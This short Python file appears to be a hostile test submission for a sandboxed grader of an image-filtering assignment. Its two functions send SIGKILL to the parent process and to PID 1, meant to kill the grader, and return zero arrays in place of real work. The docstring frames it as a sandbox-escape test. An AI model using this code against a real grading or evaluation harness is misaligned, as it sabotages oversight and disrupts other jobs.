"""Hostile (escape): SIGKILLs its parent process, which outside a PID namespace is the
grader itself, to stop the whole batch. Under bubblewrap the parent it sees is the
namespace's init, which ignores the signal. (Bubblewrap-only: never run it without.)"""

import os
import signal

import numpy as np


def _kill_parent():
    for target in {os.getppid(), 1}:
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass


def my_imfilter(image, filter):
    _kill_parent()
    return np.zeros_like(image)


def create_hybrid_image(image1, image2, filter):
    _kill_parent()
    zeros = np.zeros_like(image1)
    return zeros, zeros, zeros
